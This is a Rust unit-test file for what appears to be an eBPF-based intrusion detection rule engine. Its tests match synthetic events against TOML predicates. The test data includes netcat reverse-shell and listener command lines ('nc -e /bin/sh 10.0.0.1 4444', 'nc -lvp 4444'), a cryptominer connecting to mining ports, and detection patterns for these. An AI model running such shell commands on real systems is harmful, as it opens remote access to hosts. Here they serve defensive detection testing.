use chrono::{DateTime, Utc};
use proptest::prelude::*;

use super::*;
use crate::event::{EventKind, Exec, FileChange, FileOp, Source, TcpConn};
use crate::proctable::ProcInfo;

const CTX: Ctx<'static> = Ctx {
    file: "test.toml",
    rule: "r1",
};

fn ts() -> DateTime<Utc> {
    DateTime::parse_from_rfc3339("2026-11-22T04:53:40Z")
        .expect("valid literal")
        .with_timezone(&Utc)
}

fn exec(pid: u32, ppid: u32, file: &str, argv: &[&str]) -> Event {
    Event::new(
        ts(),
        Source::Ebpf,
        EventKind::Exec(Exec {
            pid,
            ppid,
            uid: 1000,
            gid: 1000,
            comm: crate::proctable::basename(file).into(),
            filename: file.into(),
            argv: argv.iter().map(|s| (*s).into()).collect(),
            argv_truncated: false,
            cgroup_id: 0,
        }),
    )
}

fn table(text: &str) -> toml::Table {
    text.parse::<toml::Table>().expect("test TOML parses")
}

fn pred(text: &str) -> Predicate {
    Predicate::from_table(&table(text), &CTX).expect("compiles")
}

fn err(text: &str) -> String {
    Predicate::from_table(&table(text), &CTX)
        .expect_err("must not compile")
        .to_string()
}

/// A process table with sshd(10) → bash(20) and the exec'd event process applied.
fn procs_with(ev: &Event) -> ProcessTable {
    let mut t = ProcessTable::default();
    t.insert(ProcInfo {
        pid: 10,
        ppid: 1,
        exe: "/usr/sbin/sshd".into(),
        comm: "sshd".into(),
        unit: Some("ssh.service".into()),
        ..ProcInfo::default()
    });
    t.insert(ProcInfo {
        pid: 20,
        ppid: 10,
        uid: 1000,
        exe: "/usr/bin/bash".into(),
        comm: "bash".into(),
        argv: vec!["-bash".into()],
        ..ProcInfo::default()
    });
    t.set_user_names([(1000, "alice".to_owned()), (0, "root".to_owned())].into());
    t.apply_before_detect(ev);
    t
}

#[test]
fn string_operators_on_fields_and_lists() {
    let ev = exec(
        30,
        20,
        "/usr/bin/nc",
        &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
    );
    let procs = procs_with(&ev);
    assert!(
        pred(
            r#"kind = "exec"
name = ["nc", "ncat"]"#
        )
        .matches(&ev, &procs)
    );
    assert!(
        pred(
            r#"kind = "exec"
argv = { any = ["-e", "-c"] }
filename = { startswith = "/usr/", endswith = "/nc" }"#
        )
        .matches(&ev, &procs)
    );
    assert!(
        pred(
            r#"kind = "exec"
cmdline = { regex = '-e\s+/bin/(ba)?sh' }"#
        )
        .matches(&ev, &procs)
    );
    assert!(
        pred(
            r#"kind = "exec"
filename = { contains = "BIN/NC", nocase = true }"#
        )
        .matches(&ev, &procs)
    );
    assert!(
        !pred(
            r#"kind = "exec"
filename = { contains = "BIN/NC" }"#
        )
        .matches(&ev, &procs)
    );
    assert!(
        !pred(
            r#"kind = "exec"
name = "ncat""#
        )
        .matches(&ev, &procs)
    );
    // A predicate of another kind never matches.
    assert!(!pred(r#"kind = "fork""#).matches(&ev, &procs));
}

#[test]
fn process_context_and_combinators() {
    let ev = exec(30, 20, "/usr/bin/id", &["id"]);
    let procs = procs_with(&ev);
    assert!(
        pred(
            r#"kind = "exec"
parent.name = "bash"
"ancestors.name" = "sshd"
"process.user" = "alice""#
        )
        .matches(&ev, &procs)
    );
    assert!(
        pred(
            r#"kind = "exec"
any_of = [ { name = "whoami" }, { "parent.unit" = { exists = false } } ]
not = { "ancestors.comm" = "cron" }"#
        )
        .matches(&ev, &procs)
    );
    assert!(
        !pred(
            r#"kind = "exec"
parent.name = { not = ["bash", "sh"] }"#
        )
        .matches(&ev, &procs)
    );
    assert!(
        pred(
            r#"kind = "exec"
"process.uid" = { any_of = [ { lt = 100 }, { ge = 1000 } ] }"#
        )
        .matches(&ev, &procs)
    );
    assert!(
        pred(
            r#"kind = "exec"
"ancestors.exe" = { all_of = [ { startswith = "/usr/" }, { endswith = "sshd" } ] }"#
        )
        .matches(&ev, &procs)
    );
}

#[test]
fn integer_bits_and_optional_fields() {
    let chmod = |mode: Option<u32>| {
        Event::new(
            ts(),
            Source::Ebpf,
            EventKind::FileChange(FileChange {
                pid: 7,
                uid: 0,
                comm: "chmod".into(),
                op: FileOp::Chmod,
                path: "/tmp/x".into(),
                new_path: None,
                mode,
            }),
        )
    };
    let procs = ProcessTable::default();
    let p = pred(
        r#"kind = "file_change"
op = "chmod"
mode = { bits_any = 0o6000 }"#,
    );
    assert!(p.matches(&chmod(Some(0o4755)), &procs));
    assert!(!p.matches(&chmod(Some(0o755)), &procs));
    assert!(!p.matches(&chmod(None), &procs));
    let all = pred(
        r#"kind = "file_change"
mode = { bits_all = 0o6000 }"#,
    );
    assert!(!all.matches(&chmod(Some(0o4755)), &procs));
    assert!(all.matches(&chmod(Some(0o6755)), &procs));
    let absent = pred(
        r#"kind = "file_change"
mode = { exists = false }"#,
    );
    assert!(absent.matches(&chmod(None), &procs));
    assert!(pred("kind = \"file_change\"\nnot = { mode = 0o755 }").matches(&chmod(None), &procs));
}

#[test]
fn addresses_cidr_and_ports() {
    let ev = Event::new(
        ts(),
        Source::Ebpf,
        EventKind::TcpConnect(TcpConn {
            pid: Some(5),
            comm: "xmrig".into(),
            saddr: "192.168.1.5".parse().expect("ip"),
            sport: 50000,
            daddr: "::ffff:203.0.113.9".parse().expect("ip"),
            dport: 3333,
        }),
    );
    let procs = ProcessTable::default();
    assert!(
        pred(
            r#"kind = "tcp_connect"
dport = [3333, 4444, 14444]
daddr = { cidr = ["203.0.113.0/24"] }"#
        )
        .matches(&ev, &procs)
    );
    assert!(
        !pred(
            r#"kind = "tcp_connect"
daddr = { not = { cidr = ["0.0.0.0/0"] } }"#
        )
        .matches(&ev, &procs)
    );
    assert!(
        pred(
            r#"kind = "tcp_connect"
saddr = "192.168.1.5"
dport = { gt = 1024, lt = 65535 }"#
        )
        .matches(&ev, &procs)
    );
}

#[test]
fn load_errors_name_file_rule_and_field() {
    let e = err("kind = \"exec\"\nfilname = \"x\"");
    assert!(
        e.starts_with("test.toml: rule `r1`: unknown field `filname`"),
        "{e}"
    );
    assert!(e.contains("filename"), "lists the known fields: {e}");
    let e = err("kind = \"exec\"\nparent.nmae = \"x\"");
    assert!(e.contains("unknown field `parent.nmae`"), "{e}");
    let e = err("kind = \"exce\"");
    assert!(e.contains("unknown event kind `exce`"), "{e}");
    let e = err("kind = \"exec\"\nfilename = { begins = \"/tmp\" }");
    assert!(e.contains("unknown operator `begins`"), "{e}");
    let e = err("kind = \"exec\"\nuid = \"root\"");
    assert!(e.contains("`uid`") && e.contains("integer"), "{e}");
    let e = err("kind = \"exec\"\nfilename = { gt = 3 }");
    assert!(e.contains("needs an integer field"), "{e}");
    let e = err("kind = \"exec\"\ncmdline = { regex = \"(unclosed\" }");
    assert!(e.contains("bad regex"), "{e}");
    let e = err("kind = \"file_change\"\nop = \"unlnk\"");
    assert!(e.contains("\"unlnk\" is not one of"), "{e}");
    let e = err("kind = \"tcp_connect\"\ndaddr = { cidr = \"10.0.0.0/33\" }");
    assert!(e.contains("not a CIDR block"), "{e}");
    let e = err("kind = \"loss\"\n\"parent.exe\" = \"x\"");
    assert!(e.contains("unknown field `parent.exe`"), "{e}");
    let e = err("filename = \"x\"");
    assert!(e.contains("needs `kind"), "{e}");
    let e = err("kind = \"exec\"\nany_of = []");
    assert!(e.contains("`any_of` is empty"), "{e}");
}

#[test]
fn field_values_for_templates() {
    let ev = exec(30, 20, "/usr/bin/nc", &["nc", "-lvp", "4444"]);
    let procs = procs_with(&ev);
    let f = Field::compile("exec", "parent.exe", &CTX).expect("field");
    assert_eq!(f.get(&ev, &procs).render(), "/usr/bin/bash");
    let f = Field::compile("exec", "cmdline", &CTX).expect("field");
    assert_eq!(f.get(&ev, &procs).render(), "nc -lvp 4444");
    assert!(Field::compile("exec", "nope", &CTX).is_err());
}

#[test]
fn cidr_blocks() {
    let n = Net::parse("10.0.0.0/8").expect("net");
    assert!(n.contains("10.2.3.4".parse().expect("ip")));
    assert!(!n.contains("11.0.0.1".parse().expect("ip")));
    assert!(
        Net::parse("0.0.0.0/0")
            .expect("any")
            .contains("1.1.1.1".parse().expect("ip"))
    );
    assert!(
        Net::parse("fd00::/8")
            .expect("v6")
            .contains("fd12::1".parse().expect("ip"))
    );
    assert!(Net::parse("1.2.3.4/40").is_none());
    assert!(Net::parse("nope").is_none());
}

/// TOML-ish values built from the pieces rules use, nested a little.
fn arb_value() -> impl Strategy<Value = toml::Value> {
    let leaf = prop_oneof![
        any::<i64>().prop_map(toml::Value::Integer),
        any::<bool>().prop_map(toml::Value::Boolean),
        "[a-z0-9_./*()|\\\\ -]{0,12}".prop_map(toml::Value::String),
        Just(toml::Value::String("exec".into())),
        Just(toml::Value::String("10.0.0.0/8".into())),
    ];
    leaf.prop_recursive(3, 24, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(toml::Value::Array),
            prop::collection::btree_map(arb_key(), inner, 0..4)
                .prop_map(|m| toml::Value::Table(m.into_iter().collect())),
        ]
    })
}

fn arb_key() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::sample::select(vec![
            "kind",
            "filename",
            "argv",
            "uid",
            "name",
            "parent",
            "exe",
            "parent.name",
            "not",
            "any_of",
            "all_of",
            "equals",
            "in",
            "regex",
            "cidr",
            "bits_any",
            "gt",
            "exists",
            "nocase",
            "mode",
            "op",
            "daddr",
            "dport",
            "ancestors.name",
            "startswith",
        ])
        .prop_map(str::to_owned),
        "[a-z_.]{1,8}",
    ]
}

proptest! {
    #[test]
    fn compiling_arbitrary_tables_never_panics(
        entries in prop::collection::btree_map(arb_key(), arb_value(), 0..6),
        kind in prop::sample::select(vec!["exec", "file_change", "tcp_connect", "auth_failure"]),
    ) {
        let t: toml::Table = entries.into_iter().collect();
        let ev = exec(30, 20, "/usr/bin/nc", &["nc", "-e", "/bin/sh"]);
        let procs = procs_with(&ev);
        if let Ok(p) = Predicate::compile(kind, &t, &CTX) {
            let _ = p.matches(&ev, &procs);
        }
    }
}
